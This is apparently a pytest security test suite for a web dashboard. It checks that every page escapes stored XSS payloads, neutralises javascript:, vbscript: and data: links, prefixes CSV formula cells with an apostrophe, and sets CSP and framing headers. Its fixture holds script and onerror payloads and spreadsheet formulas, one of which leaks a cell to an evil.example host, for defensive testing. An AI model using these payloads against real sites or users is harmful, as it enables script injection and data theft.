"""A hostile source: markup, javascript: links and spreadsheet formulas in everything it sends.

Records with `<script>` and attribute-breaking `"><img onerror>` in their title, text, author,
source, domain, metrics and raw JSON, links to javascript: and data: URLs, and a job, prompt,
query, project, API key, webhook and member named with the same payloads. Every page that
shows them must show them as text: no raw markup, no script but the app's own, no inline
handlers, no javascript: link; CSV cells that a spreadsheet would run get an apostrophe.
Also: the security headers, and bodies over MAX_CONTENT_LENGTH answered 413.
"""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
from datetime import timedelta
from html.parser import HTMLParser

import pytest
from conftest import PASSWORD, login, make_job, make_user
from sqlalchemy import select

from webapp.accounts.models import User
from webapp.ids import new_public_id
from webapp.models import Job, Record, Run
from webapp.settings import credentials, keys
from webapp.settings.models import Webhook, WebhookDelivery
from webapp.storage.service import result_key
from webapp.timeutil import now

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
JS = "javascript:alert(1)"
HOSTILE = SCRIPT + IMG
ESCAPED_SCRIPT = "&lt;script&gt;alert(1)&lt;/script&gt;"
ESCAPED_IMG = "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;"
# Links a browser would run or render as a document, in the spellings sources use.
BAD_URLS = [
    JS,
    "  JaVaScRiPt:alert(2)",
    "java\tscript:alert(3)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
]
# Spreadsheet formulas (OWASP "CSV injection"), each in another column.
FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "text": "+cmd|' /C calc'!A0",
    "author": "-2+3",
    "url": "@SUM(1+1)*cmd|' /C calc'!A0",
}
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "hx-get",
    "hx-post",
    "hx-put",
    "hx-delete",
    "hx-patch",
    "hx-push-url",
    "hx-replace-url",
    "poster",
    "data",
    "xlink:href",
    "srcset",
    "background",
}


# --- the hostile seed ------------------------------------------------------------------------


@pytest.fixture
def hostile(app, db, project, client, owner):
    """Our project, named and filled by a hostile source; ids of what the pages show."""
    project.name = HOSTILE
    owner.name = HOSTILE
    db.session.commit()
    job = make_job(project, name=HOSTILE, prompt=f"{HOSTILE} {JS}")
    job.sources = [
        {"type": "rss", "url": JS},
        {"type": "rss", "url": f"https://e.example/{HOSTILE}"},
        {"type": SCRIPT},
    ]
    job.last_error = HOSTILE
    job.webhook_url = JS
    db.session.commit()
    finished = now() - timedelta(hours=1)

    def completed(public_id, job_id, trigger, params=None, error=None) -> Run:
        run = Run(
            public_id=public_id,
            project_id=project.id,
            job_id=job_id,
            trigger=trigger,
            scheduled_for=finished - timedelta(minutes=1),
            status="completed",
            started_at=finished - timedelta(seconds=30),
            finished_at=finished,
            params=params,
            error=error,
        )
        db.session.add(run)
        db.session.flush()
        return run

    run = completed(new_public_id("run"), job.id, "schedule", error=HOSTILE)
    query = completed(
        new_public_id("qry"),
        None,
        "query",
        error=HOSTILE,
        params={
            "prompt": HOSTILE,
            "limit": 100,
            "date_range": {"last": HOSTILE},
            "sources": [{"type": "rss", "url": JS}, {"type": SCRIPT}],
        },
    )
    rows = [
        {
            "title": HOSTILE,
            "text": HOSTILE,
            "author": HOSTILE,
            "url": JS,
            "source": SCRIPT,
            "domain": HOSTILE,
            "metrics": {SCRIPT: IMG, "score": HOSTILE},
            "raw": {"title": HOSTILE, SCRIPT: [IMG, JS]},
        },
        *({"title": f"Bad link {i}", "url": url} for i, url in enumerate(BAD_URLS[1:])),
        {"title": "A fine link with a payload", "url": f"https://news.example.com/a?q={IMG}"},
        {**FORMULAS, "title": FORMULAS["title"]},
        {"title": "\t=1+1", "text": "\r=1+1"},
    ]
    records = []
    for target in (run, query):
        for position, values in enumerate(rows):
            record = Record(
                run_id=target.id,
                job_id=target.job_id,
                project_id=project.id,
                position=position,
                fingerprint=f"fp-{target.id}-{position}",
                published_at=finished - timedelta(hours=2),
                is_new=True,
                **{
                    "source": "rss",
                    "text": None,
                    "author": None,
                    "domain": "news.example.com",
                    "metrics": {},
                    "raw": {},
                    **values,
                },
            )
            db.session.add(record)
            records.append(record)
        target.record_count = target.new_count = len(rows)
    db.session.commit()

    api_key, _ = keys.create_key(project, HOSTILE, "read")
    webhook = Webhook(
        project_id=project.id, url=f"https://hooks.example.com/?{HOSTILE}", events=["job.completed"]
    )
    webhook.secret = "whsec_test"
    db.session.add(webhook)
    db.session.flush()
    db.session.add(
        WebhookDelivery(
            webhook_id=webhook.id,
            job_id=job.id,
            run_id=run.id,
            event="job.completed",
            status_code=500,
            error=HOSTILE,
        )
    )
    member = make_user("member@example.com", "viewer", project)
    member.name = HOSTILE
    db.session.commit()
    credentials.set_credential(project, "youtube_api_key", "StoredSecret" + HOSTILE)
    return {
        "job": job.public_id,
        "run": run.public_id,
        "query": query.public_id,
        "key": result_key(run),
        "query_key": result_key(query),
        "record": records[0].public_id,
        "query_record": records[len(rows)].public_id,
        "api_key": api_key.public_id,
        "webhook": webhook.public_id,
    }


# --- checking a page -------------------------------------------------------------------------


class Elements(HTMLParser):
    """Every start tag with its attributes (entities decoded, as a browser reads them)."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.script_text: list[str] = []
        self._in_script = False
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.script_text.append(data)


def runnable_url(value: str) -> bool:
    """Whether a browser would run this link: its scheme after dropping the whitespace and
    control characters that browsers ignore in a scheme."""
    squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
    return squeezed.startswith(("javascript:", "vbscript:", "data:text/html"))


def assert_safe(response, where: str, shows: tuple[str, ...] = ()) -> str:
    """The page shows hostile text as text; `shows`: escaped payloads that must be there
    (so the check is not passed by a page that left the content out)."""
    assert response.status_code < 500, f"{where}: {response.status_code}"
    html = response.get_data(as_text=True)
    lowered = html.lower()
    assert "<script>alert(1)" not in lowered, f"{where}: raw <script> payload"
    assert "<img src=x onerror" not in lowered, f"{where}: raw <img onerror> payload"
    assert IMG.lower() not in lowered, f"{where}: an attribute was broken out of"
    for escaped in shows:
        assert escaped in html, f"{where}: {escaped!r} not shown (escaped)"
    page = Elements(html)
    for tag, attrs in page.tags:
        assert tag not in ("iframe", "object", "embed", "base"), f"{where}: <{tag}>"
        if tag == "script":
            assert attrs.get("src", "").startswith("/static/"), f"{where}: inline <script>"
        for name, value in attrs.items():
            assert not name.startswith("on"), f"{where}: <{tag} {name}=…> handler"
            if name in URL_ATTRIBUTES or name.startswith("data-") and "url" in name:
                assert not runnable_url(value), f"{where}: <{tag} {name}={value!r}>"
        if tag == "meta" and attrs.get("http-equiv", "").lower() == "refresh":
            raise AssertionError(f"{where}: meta refresh")
    assert not "".join(page.script_text).strip(), f"{where}: inline script content"
    return html


# --- every page that shows the hostile content ------------------------------------------------


def test_jobs_pages_show_hostile_names_prompts_and_errors_as_text(client, hostile):
    job = hostile["job"]
    both = (ESCAPED_SCRIPT, ESCAPED_IMG)
    assert_safe(client.get("/jobs"), "job list", both)
    assert_safe(client.get(f"/jobs?q={HOSTILE}&state={HOSTILE}"), "job search", both)
    html = assert_safe(client.get(f"/jobs/{job}"), "job page", both)
    assert "Last error: " + ESCAPED_SCRIPT in html
    assert_safe(client.get(f"/jobs/{job}/row"), "job row", both)
    assert_safe(client.get(f"/jobs/{job}/status"), "job status", both)
    assert_safe(client.get(f"/jobs/{job}/edit"), "edit form", both)
    assert_safe(
        client.get("/jobs/new", query_string={"name": HOSTILE, "prompt": HOSTILE, "sources": JS}),
        "prefilled form",
        both,
    )
    assert_safe(
        client.post(
            "/jobs/new",
            data={
                "name": HOSTILE,
                "prompt": HOSTILE,
                "sources": HOSTILE,
                "schedule_kind": "cron",
                "cron": HOSTILE,
                "timezone": HOSTILE,
            },
        ),
        "a refused form",
        both,
    )
    assert_safe(client.post("/prompt/plan", data={"prompt": HOSTILE}), "prompt plan")
    assert_safe(
        client.post(
            "/schedule/preview",
            data={"schedule_kind": "cron", "cron": HOSTILE, "timezone": HOSTILE},
        ),
        "cron preview",
    )
    assert_safe(
        client.post("/schedule/preview", data={"schedule_kind": "daily_at", "daily_at": HOSTILE}),
        "daily preview",
    )


def test_a_run_page_shows_hostile_records_as_text_with_neutral_links(client, hostile):
    html = assert_safe(
        client.get(f"/runs/{hostile['run']}"), "run page", (ESCAPED_SCRIPT, ESCAPED_IMG)
    )
    links = {
        attrs.get("href")
        for tag, attrs in Elements(html).tags
        if tag == "a" and "nofollow" in attrs.get("rel", "")
    }
    assert "#" in links  # javascript: and data: links became "#"
    assert 'https://news.example.com/a?q="><img src=x onerror=alert(1)>' in links  # kept, escaped


def test_query_pages_show_a_hostile_prompt_and_results_as_text(client, hostile):
    both = (ESCAPED_SCRIPT, ESCAPED_IMG)
    assert_safe(client.get(f"/query/{hostile['query']}"), "query result", both)
    assert_safe(client.get(f"/query/{hostile['query']}/status"), "query status", both)
    assert_safe(client.get("/query"), "query page with recent queries")
    assert_safe(
        client.get("/query", query_string={"prompt": HOSTILE, "sources": JS}),
        "prefilled query",
        both,
    )
    assert_safe(
        client.post("/query", data={"prompt": HOSTILE, "sources": HOSTILE, "limit": HOSTILE}),
        "a refused query",
        both,
    )


def test_storage_pages_show_hostile_records_as_text(client, hostile):
    both = (ESCAPED_SCRIPT, ESCAPED_IMG)
    assert_safe(client.get("/storage"), "result files", (ESCAPED_SCRIPT,))
    assert_safe(client.get(f"/storage?job={HOSTILE}"), "files by a hostile job id")
    for key in (hostile["key"], hostile["query_key"]):
        assert_safe(client.get(f"/storage/files/{key}"), f"file {key}", both)
    assert_safe(client.get("/storage/records"), "records browser", both)
    assert_safe(
        client.get(
            "/storage/records", headers={"HX-Request": "true", "HX-Target": "record-results"}
        ),
        "records partial",
        both,
    )
    assert_safe(
        client.get(
            "/storage/records",
            query_string={
                "q": HOSTILE,
                "source": HOSTILE,
                "job": HOSTILE,
                "run": HOSTILE,
                "from": HOSTILE,
                "to": HOSTILE,
            },
        ),
        "records filtered by hostile text",
    )
    refused = client.get("/storage/records.csv", query_string={"from": HOSTILE})
    assert refused.status_code == 422  # an error page quoting the date, not a CSV
    assert_safe(refused, "an export refused over a hostile date", (ESCAPED_SCRIPT,))
    assert_safe(
        client.get("/storage/records", query_string={"source": SCRIPT}),
        "records of a hostile source",
        both,
    )
    for record in (hostile["record"], hostile["query_record"]):
        html = assert_safe(client.get(f"/storage/records/{record}"), f"record {record}", both)
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html.split("Raw JSON")[1]  # raw, as text


def test_downloads_are_attachments_that_no_browser_renders_as_a_page(client, hostile, api_key):
    for path, headers in (
        (f"/storage/files/{hostile['key']}/download", {}),
        ("/storage/records.json", {}),
        ("/storage/records.ndjson", {}),
        ("/storage/records.csv", {}),
        (f"/v1/storage/{hostile['key']}", api_key("read")),
    ):
        response = client.get(path, headers=headers)
        assert response.status_code == 200, path
        assert SCRIPT in response.get_data(as_text=True)  # read to the end: it streams
        assert response.mimetype in ("application/json", "application/x-ndjson", "text/csv")
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Content-Disposition"].startswith("attachment;"), path


def test_analytics_tables_and_charts_show_hostile_labels_as_text(client, hostile):
    both = (ESCAPED_SCRIPT, ESCAPED_IMG)
    assert_safe(client.get("/analytics"), "project analytics", both)
    assert_safe(client.get(f"/analytics/jobs/{hostile['job']}"), "job analytics", both)
    assert_safe(
        client.get("/analytics", query_string={"from": HOSTILE, "to": HOSTILE, "range": HOSTILE}),
        "a hostile range",
    )
    refused = client.get("/analytics/chart/sources.svg", query_string={"from": HOSTILE})
    assert refused.status_code == 400
    assert_safe(refused, "a chart refused over a hostile date", (ESCAPED_SCRIPT,))
    for name in (
        "records-per-run",
        "records-per-day",
        "sources",
        "authors",
        "domains",
        "durations",
        "failures",
    ):
        for path in (
            f"/analytics/chart/{name}.svg",
            f"/analytics/jobs/{hostile['job']}/chart/{name}.svg",
        ):
            response = client.get(path)
            assert response.status_code == 200, path
            assert response.mimetype == "image/svg+xml"
            svg = response.get_data(as_text=True)
            root = ET.fromstring(svg)  # well-formed: a payload did not break out of the XML
            for element in root.iter():
                tag = element.tag.rsplit("}", 1)[-1].lower()
                assert tag not in ("script", "foreignobject", "iframe"), f"{path}: <{tag}>"
                for attribute, value in element.attrib.items():
                    assert not attribute.rsplit("}", 1)[-1].lower().startswith("on"), path
                    assert not runnable_url(value), f"{path}: {attribute}={value!r}"
            svg_policy = _directives(response.headers["Content-Security-Policy"])
            assert "script-src" not in svg_policy and svg_policy["default-src"] == ["'none'"]


def test_settings_pages_show_hostile_names_and_urls_as_text(client, hostile):
    both = (ESCAPED_SCRIPT, ESCAPED_IMG)
    assert_safe(client.get("/settings/general"), "general", both)
    assert_safe(client.get("/settings/api-keys"), "api keys", both)
    assert_safe(client.get("/settings/members"), "members", both)
    html = assert_safe(client.get("/settings/webhooks"), "webhooks", both)
    assert html.count(ESCAPED_SCRIPT) >= 3  # the project, the webhook URL, a delivery error
    sources = assert_safe(client.get("/settings/sources"), "sources", both)
    assert "StoredSecret" not in sources  # a stored credential is never shown back
    assert_safe(client.get("/account"), "account", both)
    assert_safe(client.get("/projects"), "projects", both)
    # Forms that echo what was sent, and pages that reveal a new secret under its name.
    assert_safe(
        client.post("/settings/api-keys", data={"name": HOSTILE, "scope": "read"}),
        "a new key revealed",
        both,
    )
    assert_safe(
        client.post("/settings/api-keys", data={"name": HOSTILE, "scope": HOSTILE}),
        "a refused key",
        both,
    )
    assert_safe(
        client.post(
            "/settings/webhooks",
            data={"url": f"https://h.example/{HOSTILE}", "events": ["job.completed"]},
        ),
        "a refused webhook",
        both,
    )
    assert_safe(
        client.post(
            "/settings/webhooks",
            data={"url": f"https://h.example/?{SCRIPT}", "events": ["job.completed"]},
        ),
        "a new webhook revealed",
        (ESCAPED_SCRIPT,),
    )
    assert_safe(
        client.post(f"/settings/webhooks/{hostile['webhook']}/rotate"), "a rotated secret", both
    )
    assert_safe(
        client.post("/settings/general", data={"name": HOSTILE + "x" * 200}), "a refused name", both
    )
    assert_safe(
        client.post("/settings/members/usr_nobody/role", data={"role": HOSTILE}),
        "an unknown member",
    )


def test_flash_messages_quote_hostile_names_as_text(client, hostile):
    both = (ESCAPED_SCRIPT, ESCAPED_IMG)
    assert_safe(
        client.post(f"/settings/webhooks/{hostile['webhook']}/delete", follow_redirects=True),
        "webhook deleted",
        both,
    )
    assert_safe(
        client.post(f"/settings/api-keys/{hostile['api_key']}/revoke", follow_redirects=True),
        "key revoked",
        both,
    )
    assert_safe(
        client.post(f"/jobs/{hostile['job']}/delete", follow_redirects=True), "job deleted", both
    )
    assert_safe(
        client.post("/settings/general", data={"name": SCRIPT + "renamed"}, follow_redirects=True),
        "renamed",
        (ESCAPED_SCRIPT,),
    )


def test_error_pages_and_sign_in_pages_echo_nothing_raw(app, client, hostile):
    assert_safe(client.get(f"/jobs/{HOSTILE}"), "404 job")
    assert_safe(client.get(f"/runs/{HOSTILE}"), "404 run")
    assert_safe(client.get(f"/storage/files/{HOSTILE}"), "404 file")
    assert_safe(client.get(f"/no/such/{HOSTILE}"), "404 path")
    assert_safe(client.get(f"/analytics?job={HOSTILE}", follow_redirects=True), "404 analytics")
    anonymous = app.test_client()
    assert_safe(anonymous.get(f"/login?next={JS}"), "login with a hostile next")
    assert_safe(
        anonymous.post(f"/login?next={JS}", data={"email": HOSTILE, "password": "x"}),
        "a refused sign-in",
        (ESCAPED_SCRIPT,),
    )
    assert_safe(anonymous.get(f"/invite/{HOSTILE}"), "an unknown invitation")
    # After signing in, `next` pointing at javascript: is not followed.
    signed_in = anonymous.post(
        f"/login?next={JS}", data={"email": "member@example.com", "password": PASSWORD}
    )
    assert signed_in.status_code == 303
    assert signed_in.headers["Location"] == "/jobs"


def test_the_api_answers_hostile_content_as_json(app, hostile, api_key):
    client = app.test_client()
    for path in (
        f"/v1/jobs/{hostile['job']}",
        f"/v1/runs/{hostile['run']}/records",
        f"/v1/queries/{hostile['query']}",
        "/v1/jobs",
    ):
        response = client.get(path, headers=api_key("read"))
        assert response.status_code == 200
        assert response.mimetype == "application/json"
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert SCRIPT in str(response.get_json())  # data, kept as it came


# --- CSV exports -----------------------------------------------------------------------------


def _csv_rows(response) -> list[dict]:
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_csv_cells_a_spreadsheet_would_run_get_an_apostrophe(client, hostile, api_key):
    exports = {
        "records.csv": _csv_rows(client.get("/storage/records.csv")),
        "file csv": _csv_rows(
            client.get(f"/v1/storage/{hostile['key']}?format=csv", headers=api_key("read"))
        ),
        "query file csv": _csv_rows(
            client.get(f"/v1/storage/{hostile['query_key']}?format=csv", headers=api_key("read"))
        ),
    }
    for name, rows in exports.items():
        assert rows, name
        for row in rows:
            for column, cell in row.items():
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (
                    f"{name}: {column}={cell!r}"
                )
        formulas = next(r for r in rows if r["author"] == "'" + FORMULAS["author"])
        for column, value in FORMULAS.items():
            assert formulas[column] == "'" + value, f"{name}: {column}"
        tabbed = next(r for r in rows if r["title"] == "'\t=1+1")
        assert tabbed["text"] == "'\r=1+1"
        hostile_row = next(r for r in rows if r["source"] == SCRIPT)
        assert hostile_row["title"] == HOSTILE  # text is kept as it came; a CSV is not HTML


# --- headers and body size ---------------------------------------------------------------------


def _directives(policy: str) -> dict[str, list[str]]:
    found = {}
    for part in policy.split(";"):
        words = part.split()
        if words:
            found[words[0].lower()] = [w.lower() for w in words[1:]]
    return found


@pytest.mark.parametrize(
    "path",
    [
        "/jobs",
        "/storage/records",
        "/settings/webhooks",
        "/jobs/job_NOPE",
        "/login",
        "/v1/jobs",
        "/storage/records.csv",
    ],
)
def test_every_response_carries_the_security_headers(app, client, hostile, path):
    response = (app.test_client() if path in ("/login", "/v1/jobs") else client).get(path)
    policy = response.headers.get("Content-Security-Policy", "")
    directives = _directives(policy)
    scripts = directives.get("script-src", directives.get("default-src"))
    assert scripts is not None, f"{path}: no script policy in {policy!r}"
    assert "'unsafe-inline'" not in scripts and "'unsafe-eval'" not in scripts, policy
    assert "*" not in scripts and "data:" not in scripts, policy
    # No object-src of its own: plugins fall back to default-src, this site only.
    assert "object-src" not in directives and directives["default-src"] == ["'self'"], policy
    assert directives["frame-ancestors"] == ["'none'"], policy
    assert response.headers.get("X-Frame-Options") == "DENY"
    assert response.headers.get("X-Content-Type-Options") == "nosniff"


def test_an_api_body_over_the_limit_is_413_in_the_error_shape(app, api_key):
    limit = app.config["MAX_CONTENT_LENGTH"]
    response = app.test_client().post(
        "/v1/jobs",
        data='{"name": "' + "x" * limit + '"}',
        content_type="application/json",
        headers=api_key("write"),
    )
    assert response.status_code == 413
    assert response.mimetype == "application/json"
    error = response.get_json()["error"]
    assert error["code"] == "payload_too_large" and error["message"]
    assert app.test_client().get("/v1/jobs", headers=api_key("read")).get_json()["data"] == []


@pytest.mark.parametrize(
    "path", ["/jobs/new", "/query", "/settings/general", "/prompt/plan", "/login"]
)
def test_a_dashboard_form_over_the_limit_is_a_413_page_without_a_traceback(
    app, client, db, project, path
):
    limit = app.config["MAX_CONTENT_LENGTH"]
    sender = app.test_client() if path == "/login" else client  # sign-in reads it signed out
    response = sender.post(
        path, data={"name": "big", "email": "a@example.com", "prompt": "x" * limit}
    )
    assert response.status_code == 413
    assert response.mimetype == "text/html"
    html = response.get_data(as_text=True)
    assert "413" in html and "Traceback" not in html and "werkzeug" not in html.lower()
    db.session.expire_all()
    assert db.session.scalar(select(Job)) is None and db.session.scalar(select(Run)) is None
    assert project.name == "Default"


def test_a_form_over_the_limit_is_413_with_csrf_on_too(app, db, owner, project):
    """The CSRF check reads the form first: a body too big must still be 413, not 400/500."""
    from webapp import create_app

    strict = login(create_app({"TESTING": True}).test_client(), owner, project)
    response = strict.post("/jobs/new", data={"prompt": "x" * app.config["MAX_CONTENT_LENGTH"]})
    assert response.status_code == 413
    assert "Traceback" not in response.get_data(as_text=True)
    assert db.session.scalar(select(Job)) is None


def test_member_name_is_not_a_way_in_either(app, db, project, hostile):
    """A person whose name is a payload sees it as text in their own header."""
    member = db.session.scalar(select(User).where(User.email == "member@example.com"))
    viewer = login(app.test_client(), member, project)
    assert_safe(viewer.get("/jobs"), "a viewer's header", (ESCAPED_SCRIPT, ESCAPED_IMG))
